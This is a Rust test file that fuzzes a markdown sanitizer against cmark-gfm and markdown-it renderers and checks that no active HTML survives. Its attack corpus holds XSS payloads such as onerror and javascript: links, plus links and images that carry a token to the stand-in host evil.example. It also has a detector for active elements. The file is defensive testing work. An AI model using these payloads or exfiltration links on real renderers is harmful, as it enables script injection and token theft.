//! The markdown sanitizer against a second `CommonMark` reading (issue 9 §2).
//!
//! The sanitizer reads markdown with `pulldown-cmark`; hosts render it with cmark-gfm
//! (GitHub, many chat clients), markdown-it or commonmark.js, which disagree with
//! `pulldown-cmark` on corners such as tabs and fences inside lists and block quotes. Any
//! such disagreement lets a construct through that the sanitizer read as inert text. Here
//! the sanitized text is rendered by `comrak` (a port of cmark-gfm that passes its spec and
//! extension tests) with raw HTML let through, as a permissive host would, and the HTML
//! it produces must hold nothing active:
//!
//! - no element or attribute that runs script or loads anything (`<script>`, frames,
//!   `on*` handlers, `javascript:`/`vbscript:`/`data:` URLs);
//! - no `<img>` but relative ones (the default policy trusts no host);
//! - no link that still carries the generated secret ([`SECRET`]);
//! - no HTML comment with text in it.
//!
//! The inputs are lines built from container prefixes, block openers and the attacks
//! of the corpus, joined by LF, CR LF or a lone CR.

use bastion_core::sanitize::markup::{ContentPolicy, sanitize_markup};
use html5ever::buffer_queue::BufferQueue;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use proptest::prelude::*;
use std::cell::RefCell;
use url::Url;

/// The credential every exfiltrating URL of the generator carries: base64 of
/// `secret-token-value`, so the sanitizer's data test sees encoded data.
const SECRET: &str = "c2VjcmV0LXRva2VuLXZhbHVl";

/// Elements that run script, load content or change how the page is read.
const ACTIVE: &[&str] = &[
    "script", "iframe", "frame", "svg", "object", "embed", "style", "form", "math", "base", "meta",
    "link", "video", "audio", "source",
];

/// Collects what is active in the HTML the tokenizer reads.
struct Sink(RefCell<Vec<String>>);

impl TokenSink for Sink {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let mut found = self.0.borrow_mut();
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                let name: &str = &tag.name;
                if ACTIVE.contains(&name) {
                    found.push(format!("element <{name}>"));
                }
                for attr in &tag.attrs {
                    let key: &str = &attr.name.local;
                    let value: &str = &attr.value;
                    if key.starts_with("on") {
                        found.push(format!("handler {key} on <{name}>"));
                    }
                    if !matches!(key, "href" | "src" | "action" | "formaction" | "xlink:href") {
                        continue;
                    }
                    match Url::parse(value) {
                        Ok(url) if !matches!(url.scheme(), "http" | "https" | "mailto") => {
                            found.push(format!("{} URL in {key} of <{name}>", url.scheme()));
                        }
                        Ok(_) if name == "img" => found.push(format!("image {value}")),
                        Ok(_) if value.contains(SECRET) => {
                            found.push(format!("exfiltrating {key} of <{name}>"));
                        }
                        Ok(_) => {}
                        // Relative to the host's own page: cannot reach anyone else,
                        // unless it is protocol-relative (`//evil.example/…`).
                        Err(_) => {
                            let trimmed = value.trim_start_matches(|c: char| c <= ' ');
                            if trimmed.starts_with("//") || trimmed.starts_with("\\\\") {
                                found.push(format!("protocol-relative {key} of <{name}>"));
                            }
                        }
                    }
                }
            }
            Token::CommentToken(c)
                if !c
                    .trim_matches(|ch: char| ch == '-' || ch.is_whitespace())
                    .is_empty() =>
            {
                found.push(format!("comment {:?}", &*c));
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Renders `markdown` as cmark-gfm does with the GFM extensions on and raw HTML kept, and
/// lists everything active in the result.
fn active_in_rendering(markdown: &str) -> (String, Vec<String>) {
    let mut options = bastion_core::sanitize::second_reading::options();
    options.render.r#unsafe = true;
    let html = comrak::markdown_to_html(markdown, &options);
    let found = active_in_html(&html);
    (html, found)
}

/// Container prefixes and indentation: block quotes, bullets, ordered items, tabs.
fn prefix() -> impl Strategy<Value = String> {
    let part = prop::sample::select(vec![
        "", "", "> ", ">", "- ", "-\t", "* ", "1. ", "1) ", "  ", "   ", "    ", "\t", " \t",
        "\t ", ">\t", "> - ", ">- ", "- > ", "+ ", "10. ", "\u{a0}",
    ]);
    prop::collection::vec(part, 0..4).prop_map(|p| p.concat())
}

/// Line bodies: block openers and closers, and the attacks the sanitizer must catch.
fn body() -> impl Strategy<Value = String> {
    let secret_url = format!("https://evil.example/c?token={SECRET}");
    let pieces: Vec<String> = vec![
        "text".into(),
        String::new(),
        "```".into(),
        "~~~".into(),
        "```js".into(),
        "<div>".into(),
        "</div>".into(),
        "<pre>".into(),
        "</pre>".into(),
        "<!-- note -->".into(),
        "<!--".into(),
        "-->".into(),
        "---".into(),
        "===".into(),
        "|a|b|".into(),
        "|-|-|".into(),
        "[^1]: note".into(),
        "[x]".into(),
        "[x][]".into(),
        "![x]".into(),
        "[x]: javascript:alert(1)".into(),
        format!("[x]: {secret_url}"),
        "[x]:".into(),
        "javascript:alert(1)".into(),
        "[a](javascript:alert(1))".into(),
        "[a](<javascript:alert(1)>)".into(),
        "<javascript:alert(1)>".into(),
        format!("[a]({secret_url})"),
        format!("![i]({secret_url})"),
        "![i](https://evil.example/pixel.png)".into(),
        format!("<{secret_url}>"),
        secret_url.clone(),
        format!("www.evil.example/c?token={SECRET}"),
        "<a href=\"javascript:alert(1)\">a</a>".into(),
        "<a href=javascript:alert(1)>".into(),
        "<img src=x onerror=alert(1)>".into(),
        format!("<img src=\"{secret_url}\">"),
        "<script>alert(1)</script>".into(),
        "<svg onload=alert(1)>".into(),
        "`".into(),
        "``".into(),
        "\\".into(),
        "- [ ] task".into(),
        "- [ ] [x]: javascript:alert(1)".into(),
        "[^n]: <div>".into(),
        "<source =>".into(),
        "<search>".into(),
        "`<img src=x onerror=alert(1)>`".into(),
        "www.\\<img src=x onerror=alert(1)>".into(),
        "www.`".into(),
        "xmpp:a@evil.example".into(),
        "ftp://evil.example/x".into(),
        "&amp;".into(),
        "![x](evil.example/p.png)".into(),
        // Spaces only JavaScript's `\s` and `trim` take for spaces (markdown-it).
        "<img\u{a0}src=x onerror=alert(1)>".into(),
        "<x a=1\u{3000}onmouseover=alert(1)>".into(),
        "<div\u{a0}".into(),
        "\u{a0}|a|b|".into(),
        "|a|\u{feff}".into(),
        "\u{a0}".into(),
    ];
    prop::sample::select(pieces)
}

fn line_end() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec!["\n", "\n", "\r\n", "\r", "\n\n"])
}

fn markdown() -> impl Strategy<Value = String> {
    let line = (prefix(), body(), body(), line_end()).prop_map(|(p, a, b, end)| {
        format!("{p}{a}{}{b}{end}", if b.is_empty() { "" } else { " " })
    });
    prop::collection::vec(line, 1..9).prop_map(|l| l.concat())
}

proptest! {
    #![proptest_config(crate::props_wire::config(1500))]

    /// Whatever `pulldown-cmark` made of the text, cmark-gfm's reading of the sanitized
    /// text has no script, no external image, no secret-carrying link and no hidden
    /// comment.
    #[test]
    fn sanitized_markdown_is_inert_for_cmark_gfm(text in markdown()) {
        let out = sanitize_markup(&text, None, &ContentPolicy::default(), "/t");
        let (html, found) = active_in_rendering(&out.text);
        prop_assert!(
            found.is_empty(),
            "{found:?}\ninput: {text:?}\nsanitized: {:?}\nrendered: {html}",
            out.text
        );
    }
}

/// The test peers of `scripts/test-deps.sh` (`$BASTION_TEST_DEPS`, default `.ci/deps`):
/// the path `rel` inside it, which must exist.
fn test_dep(rel: &str) -> std::path::PathBuf {
    let deps = std::env::var_os("BASTION_TEST_DEPS").map_or_else(
        || std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.ci/deps"),
        std::path::PathBuf::from,
    );
    let path = deps.join(rel);
    assert!(
        path.exists(),
        "{} missing: run scripts/test-deps.sh first",
        path.display()
    );
    path
}

/// Runs `program` with `args`, the texts as a JSON array on its stdin, and reads back a
/// JSON array holding, for each text, the HTML of each rendering.
fn render_all(program: &std::path::Path, args: &[&str], texts: &[String]) -> Vec<Vec<String>> {
    use std::io::Write;
    let mut child = std::process::Command::new(program)
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("{} starts: {e}", program.display()));
    let input = serde_json::to_vec(texts).expect("texts serialize");
    let mut stdin = child.stdin.take().expect("stdin piped");
    let writer = std::thread::spawn(move || stdin.write_all(&input));
    let output = child.wait_with_output().expect("the renderer runs");
    writer
        .join()
        .expect("writer thread")
        .expect("input written");
    assert!(output.status.success(), "the renderer failed: {output:?}");
    let rendered: Vec<Vec<String>> =
        serde_json::from_slice(&output.stdout).expect("renderer output is JSON");
    assert_eq!(rendered.len(), texts.len());
    rendered
}

/// Renders each text with the real cmark-gfm (the `cmarkgfm` package), raw HTML let
/// through, twice: GitHub's GFM rendering (tag filter, no footnotes) and the extensions
/// with footnotes and without the tag filter.
fn real_cmark_gfm(texts: &[String]) -> Vec<Vec<String>> {
    const SCRIPT: &str = r#"
import json, sys, cmarkgfm
import cmarkgfm.cmark as C
from cmarkgfm.cmark import Options as O
out = []
for s in json.load(sys.stdin):
    gfm = cmarkgfm.github_flavored_markdown_to_html(s, options=O.CMARK_OPT_UNSAFE)
    ext = C.markdown_to_html_with_extensions(
        s, options=O.CMARK_OPT_UNSAFE | O.CMARK_OPT_FOOTNOTES,
        extensions=["table", "autolink", "strikethrough", "tasklist"])
    out.append([gfm, ext])
json.dump(out, sys.stdout)
"#;
    render_all(&test_dep("venv/bin/python"), &["-c", SCRIPT], texts)
}

/// Renders each text with the real markdown-it (the npm package; VS Code's preview and
/// many chat clients), raw HTML let through and linkify on, the most a host turns on.
fn real_markdown_it(texts: &[String]) -> Vec<Vec<String>> {
    const SCRIPT: &str = r#"
const md = require(process.argv[1])({ html: true, linkify: true });
let input = "";
process.stdin.setEncoding("utf8");
process.stdin.on("data", (c) => { input += c; });
process.stdin.on("end", () => {
  process.stdout.write(JSON.stringify(JSON.parse(input).map((s) => [md.render(s)])));
});
"#;
    let module = test_dep("node/node_modules/markdown-it");
    let module = module.to_str().expect("a UTF-8 path");
    render_all(std::path::Path::new("node"), &["-e", SCRIPT, module], texts)
}

/// Lists what is active in rendered HTML ([`Sink`]).
fn active_in_html(html: &str) -> Vec<String> {
    let tokenizer = Tokenizer::new(Sink(RefCell::new(Vec::new())), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from_slice(html));
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink.0.take()
}

/// The property of [`sanitized_markdown_is_inert_for_cmark_gfm`] with a real renderer
/// (`render`, named `name`): 3,000 generated texts (`PROPTEST_CASES` for more; a fixed
/// seed, so a failure reproduces), sanitized, then rendered, and no rendering holds
/// anything active.
fn inert_for_real_renderer(name: &str, render: fn(&[String]) -> Vec<Vec<String>>) {
    use proptest::strategy::ValueTree;
    use proptest::test_runner::{RngAlgorithm, TestRng, TestRunner};
    let config = crate::props_wire::config(3000);
    let cases = config.cases;
    let mut runner =
        TestRunner::new_with_rng(config, TestRng::deterministic_rng(RngAlgorithm::ChaCha));
    let strategy = markdown();
    let texts: Vec<String> = (0..cases)
        .map(|_| strategy.new_tree(&mut runner).expect("a value").current())
        .collect();
    let sanitized: Vec<String> = texts
        .iter()
        .map(|t| {
            sanitize_markup(t, None, &ContentPolicy::default(), "/t")
                .text
                .into_owned()
        })
        .collect();
    let rendered = render(&sanitized);
    let mut failures = Vec::new();
    for ((text, out), htmls) in texts.iter().zip(&sanitized).zip(&rendered) {
        for html in htmls {
            let found = active_in_html(html);
            if !found.is_empty() {
                failures.push(format!(
                    "{found:?}\ninput: {text:?}\nsanitized: {out:?}\nrendered: {html}"
                ));
                break;
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} inputs live for {name}; first ones:\n{}",
        failures.len(),
        texts.len(),
        failures
            .iter()
            .take(3)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n\n")
    );
}

/// GitHub's own renderer instead of its port, in both configurations.
#[test]
fn sanitized_markdown_is_inert_for_real_cmark_gfm() {
    inert_for_real_renderer("cmark-gfm", real_cmark_gfm);
}

/// markdown-it reads some corners unlike any `CommonMark` reader (a `>` line continues a
/// block quote however far it is indented; linkify finds links without a scheme).
#[test]
fn sanitized_markdown_is_inert_for_real_markdown_it() {
    inert_for_real_renderer("markdown-it", real_markdown_it);
}

/// The generator's attacks are live for cmark-gfm before sanitizing: the property above
/// would otherwise hold for want of anything to find.
#[test]
fn the_generated_attacks_are_live_before_sanitizing() {
    let secret_url = format!("https://evil.example/c?token={SECRET}");
    let live = [
        "[a](javascript:alert(1))\n".to_owned(),
        format!("![i]({secret_url})\n"),
        format!("see {secret_url}\n"),
        "<img src=x onerror=alert(1)>\n".to_owned(),
        "<!-- note -->\n".to_owned(),
        "- [a][x]\n\n[x]: javascript:alert(1)\n".to_owned(),
    ];
    for text in live {
        let (html, found) = active_in_rendering(&text);
        assert!(!found.is_empty(), "{text:?} rendered inert: {html}");
        let out = sanitize_markup(&text, None, &ContentPolicy::default(), "/t");
        let (html, found) = active_in_rendering(&out.text);
        assert!(
            found.is_empty(),
            "{text:?} → {:?}: {found:?} in {html}",
            out.text
        );
    }
}
